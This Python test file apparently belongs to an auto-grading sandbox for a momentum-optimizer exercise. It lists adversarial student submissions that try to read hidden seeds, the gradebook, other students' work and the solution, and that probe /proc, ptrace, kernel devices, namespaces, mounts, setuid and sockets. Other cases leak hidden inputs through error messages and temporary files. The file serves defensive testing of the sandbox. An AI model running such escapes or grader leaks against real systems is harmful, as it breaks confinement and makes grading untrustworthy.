"""What is not the student's: files, memory, other processes, the network, the hidden inputs."""

from __future__ import annotations

from tests.attacks import Attack
from tests.attacks.marks import SIGNATURE

RIGHT_AND_THEN = f"""
{SIGNATURE}
    new = {{k: beta * v[k] + (1 - beta) * grads[k] for k in v}}
    return {{k: params[k] - learning_rate * new[k] for k in params}}, new
"""

SHOW = """
def show(*files):
    for file in files:
        try:
            with open(file, "rb") as stream:
                print(stream.read(200_000).decode("utf-8", "replace"))
        except OSError as error:
            print(file, error.strerror)
"""


def reads(name: str, *files: str) -> Attack:
    """Return the case of a cell that prints files."""
    return Attack(name, 6, SHOW + "show(" + ", ".join(f'f"{file}"' for file in files) + ")", reads=True)


def tries(name: str, cell: str, deserved: float = 6, **more: object) -> Attack:
    """Return the case of a cell that does what it can and prints what it got."""
    return Attack(name, deserved, SHOW + cell, **more)


def leaks(name: str, body: str) -> Attack:
    """Return the case of a function that puts the hidden inputs where messages might show them."""
    lines = "\n".join("    " + line for line in body.strip().splitlines())
    return Attack(name, 2, f"{SIGNATURE}\n    told = str([a.tolist() for a in params.values()])\n{lines}")


CASES = [
    # ------------------------------------------------------------- files
    reads("the hidden seed", "{COURSE}/seeds.json"),
    reads("the gradebook", "{COURSE}/gradebook.db"),
    reads("a classmate's submission", "{COURSE}/submitted/classmate/03_momentum/03_momentum.ipynb"),
    reads("verdicts on others", "{COURSE}/verdicts/03_momentum/classmate.json"),
    reads("a file in the teacher's home", "{TEACHER}/.secret"),
    reads(
        "reference and hidden cases",
        "{CHECKOUT}/grader/reference/momentum.py",
        "{CHECKOUT}/grader/exercises/momentum.py",
    ),
    reads("the solution", "{CHECKOUT}/lessons/03_momentum.py"),
    tries(
        "everything below /",
        """
import os
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/usr", "/proc", "/sys")]
    if "site-packages" in folder or "/lib/python3" in folder:
        continue
    for file in files:
        path = os.path.join(folder, file)
        if os.path.isfile(path) and os.path.getsize(path) < 100_000 and not path.endswith((".py", ".pyc")):
            with open(path, "rb") as stream:
                text = stream.read()
            if b"SECRET-" in text:
                print(path, text)
print([os.path.join(d, f) for d in ("/root", "/home", CHECKOUT) if os.path.isdir(d) for f in os.listdir(d)])""",
    ),
    tries(
        "links of one's own to the course",
        """
import os
for number, target in enumerate((f"{COURSE}/seeds.json", f"{TEACHER}/.secret", f"{CHECKOUT}/lessons/03_momentum.py")):
    os.symlink(target, f"link-{number}")
    show(f"link-{number}")
    try:
        os.link(target, f"hard-{number}")
    except OSError:
        continue
    show(f"hard-{number}")""",
        reads=True,
    ),
    tries(
        "links handed in beside the notebook",
        'show("mine.txt", "folder/seeds.json")\nprint(__import__("os").listdir("."))',
        linked={"mine.txt": "gradebook.db", "folder": "."},
    ),
    tries(
        "paths that climb",
        """
import os
show("../seeds.json", "../../../seeds.json", "/proc/self/cwd/../../seeds.json", f"/proc/1/root{COURSE}/seeds.json",
     f"/proc/self/root{TEACHER}/.secret", f"/proc/{os.getppid()}/root{TEACHER}/.secret", f"/proc/1/cwd/seeds.json")""",
    ),
    tries(
        "the packages grader, lessons and tests by import",
        """
import sys
sys.path[:0] = [CHECKOUT, COURSE]
for name in ("grader", "grader.judge", "grader.reference.momentum", "grader.exercises.momentum", "tools.gate"):
    try:
        module = __import__(name, fromlist=["x"])
    except ImportError:
        continue
    print("GOT_IN", name)""",
    ),
    tries(
        "the file that runs the cells",
        """
import gc, sys, inspect
show("/inside/inside.py", "/inside/inside.pyc", "/inside/forkserver.py", "/inside/forkserver.pyc", sys.argv[0])
for frame in [f.frame for f in inspect.stack()]:
    print({k: v for k, v in frame.f_locals.items() if isinstance(v, (int, str, dict)) and len(str(v)) < 10_000})
print([o for o in gc.get_objects() if isinstance(o, dict) and "seed" in o and len(str(o)) < 10_000])""",
    ),
    tries(
        "what the process that forks left open",
        """
import inspect, os, socket
for kept in [o for f in inspect.stack() for o in f.frame.f_locals.values() if isinstance(o, socket.socket)]:
    for use in (lambda: kept.send(b'{"uid": 0}'), lambda: socket.recv_fds(kept, 99, 2), kept.getsockname):
        try:
            print("GOT_IN", use())
        except OSError:
            pass
for number in range(256):
    try:
        path = os.readlink(f"/proc/self/fd/{number}")
        os.listdir(f"/proc/self/fd/{number}")
        print("GOT_IN", path) if path != f"/proc/{os.getpid()}/fd" else None
    except OSError:
        pass
try:
    os.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)
    print("GOT_IN", "a namespace")
except (OSError, AttributeError):
    pass""",
    ),
    # ------------------------------------------------------------- processes and memory
    tries("the environment", "import os\nprint(dict(os.environ))\nshow('/proc/self/environ')"),
    tries(
        "the environment of other processes",
        """
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    show(f"/proc/{pid}/environ", f"/proc/{pid}/cmdline")
print(os.popen("ps auxwwe").read())""",
        reads=True,
    ),
    tries(
        "descriptors that were left open",
        """
import os
for pid in ("self", "1", str(os.getppid())):
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        continue
    for name in names:
        try:
            target = os.readlink(f"/proc/{pid}/fd/{name}")
        except OSError:
            continue
        print(target)
        if target.startswith(("/root", "/home", COURSE, CHECKOUT + "/grader", "/tmp/")):
            show(f"/proc/{pid}/fd/{name}")""",
    ),
    tries(
        "memory of the processes above",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in {1, os.getppid()}:
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("GOT_IN by ptrace")
    try:
        open(f"/proc/{pid}/mem", "r+b")
        print("GOT_IN to the memory of", pid)
    except OSError:
        pass
    buffer = ctypes.create_string_buffer(8)
    class Span(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    here, there = Span(ctypes.addressof(buffer), 8), Span(0x400000, 8)
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        print("GOT_IN by process_vm_readv")""",
    ),
    tries(
        "the kernel's log and memory",
        """
import ctypes
show("/dev/kmsg", "/dev/mem", "/dev/kmem", "/proc/kcore", "/proc/kmsg")
libc = ctypes.CDLL(None, use_errno=True)
if libc.klogctl(3, ctypes.create_string_buffer(4096), 4096) > 0:
    print("GOT_IN to the kernel's log")
for device in ("/dev/kmsg", "/dev/mem", "/dev/vda", "/dev/sda", "/dev/nvme0n1"):
    try:
        open(device, "rb").read(1)
        print("GOT_IN", device)
    except OSError:
        pass""",
    ),
    # ------------------------------------------------------------- namespaces
    tries(
        "namespaces of one's own",
        """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
    if libc.unshare(flag) == 0:
        print("GOT_IN with", hex(flag))
if libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0) == 0:
    os._exit(0)
print(subprocess.run("unshare -Urm id && echo GOT_IN", shell=True, capture_output=True, text=True).stdout)""",
    ),
    tries(
        "mounts",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("there", exist_ok=True)
if libc.mount(b"none", b"there", b"tmpfs", 0, None) == 0 or libc.umount2(b"/usr", 2) == 0 or libc.chroot(b"there") == 0:
    print("GOT_IN")
for folder in ("/", "/usr", CHECKOUT + "/optimlab", "/proc"):
    if libc.mount(b"none", folder.encode(), None, 32, None) == 0:
        print("GOT_IN to", folder)""",
    ),
    tries(
        "root again",
        """
import os, subprocess
for change in (os.setuid, os.setgid):
    try:
        change(0)
        print("GOT_IN", change) if os.getuid() == 0 and os.path.exists(COURSE) else None
    except OSError:
        pass
commands = "su -c id; sudo -n id; newgrp root </dev/null"
print(subprocess.run(commands, shell=True, capture_output=True, text=True).stdout)""",
    ),
    # ------------------------------------------------------------- network
    tries(
        "the network",
        """
import socket
for family, address in (
    (socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_INET6, ("::1", PORT)), (socket.AF_INET, ("8.8.8.8", 53)),
    (socket.AF_UNIX, chr(0) + f"optimlab-{PORT}"), (socket.AF_UNIX, f"{COURSE}/socket"),
):
    try:
        with socket.socket(family) as s:
            s.settimeout(0.5)
            s.connect(address)
            s.sendall(b"hidden inputs")
            print("GOT_IN", address)
    except OSError:
        pass""",
        reads=True,
    ),
    tries(
        "other families of sockets",
        """
import socket
for family in (16, 17, 38, 40, 29, 31):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            socket.socket(family, kind).close()
            print("GOT_IN", family)
        except OSError:
            pass""",
    ),
    # ------------------------------------------------------------- ways out
    tries(
        "secrets as a value, an error and a name",
        """
import os
try:
    loot = open(f"{COURSE}/seeds.json").read() + str(dict(os.environ))
except OSError:
    loot = str(dict(os.environ))
print(loot)
def momentum_step(params, grads, v, learning_rate, beta=0.9):
    return {loot: loot}, type(loot[:200], (), {})()
raise ValueError(loot)""",
        deserved=2,
    ),
    leaks("hidden inputs as an error's words", "raise ValueError(told)"),
    leaks("hidden inputs as an error's class", "raise type(told, (Exception,), {})(told)"),
    leaks(
        "hidden inputs as the line of an error",
        """
import linecache
code = compile(f"raise ValueError  # {told}", "told", "exec")
linecache.cache["told"] = (len(told), None, [f"raise ValueError  # {told}\\n"], "told")
momentum_step.__code__ = momentum_step.__code__.replace(co_filename="told")
exec(code)""",
    ),
    leaks(
        "hidden inputs as names of what was modified",
        """
from optimlab import outcomes
outcomes._changes = lambda old, new, name: [told]
return {k: params[k] - learning_rate * ((1 - beta) * grads[k] + beta * v[k]) for k in params}, v""",
    ),
    leaks("hidden inputs printed", "print(told)\nimport os\nos.write(1, told.encode())\nreturn params, v"),
    leaks(
        "hidden inputs in a file of the next run",
        """
open("/tmp/told", "w").write(told); open("/dev/shm/told", "w").write(told)
import os, signal
os.kill(os.getppid(), signal.SIGKILL)""",
    ),
    tries(
        "what a run before left behind",
        """
import os
show("/tmp/told", "/dev/shm/told", "/scratch/told")
print("GOT_IN" if {"told"} & {*os.listdir("/tmp"), *os.listdir("/dev/shm")} else os.listdir("/tmp"))""",
    ),
    tries(
        "memory and descriptors of the process that keeps the sandbox open",
        """
import os
for pid in set(filter(str.isdigit, os.listdir("/proc"))) - {str(os.getpid())}:
    for name in ("mem", "uid_map", "oom_score_adj", "clear_refs", "timerslack_ns", "comm"):
        try:
            os.close(os.open(f"/proc/{pid}/{name}", os.O_WRONLY))
            print("GOT_IN", name, pid)
        except OSError:
            pass
    for number in range(20):
        try:
            os.close(os.open(f"/proc/{pid}/fd/{number}", os.O_RDWR))
            target = os.readlink(f"/proc/{pid}/fd/{number}")
            print("GOT_IN", target) if not target.startswith(("pipe:", "/dev/null")) else None
        except OSError:
            pass""",
    ),
]
